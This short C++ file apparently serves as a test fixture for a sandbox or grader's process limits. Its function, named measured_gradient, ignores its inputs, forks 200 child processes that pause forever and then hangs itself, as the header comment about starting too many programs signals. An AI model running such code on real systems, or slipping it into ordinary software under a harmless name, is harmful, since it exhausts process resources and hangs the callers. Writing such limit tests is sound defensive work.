// Starts more programs than it may.
#include <unistd.h>
#include <functional>
#include <vector>

namespace hood {

using FunctionOfMany = std::function<double(const std::vector<double>&)>;

std::vector<double> measured_gradient(const FunctionOfMany&,
                                      std::vector<double> numbers, double) {
  for (int i = 0; i < 200; ++i) {
    if (fork() > 0) continue;
    while (true) pause();
  }
  while (true) pause();
  return numbers;
}

}  // namespace hood
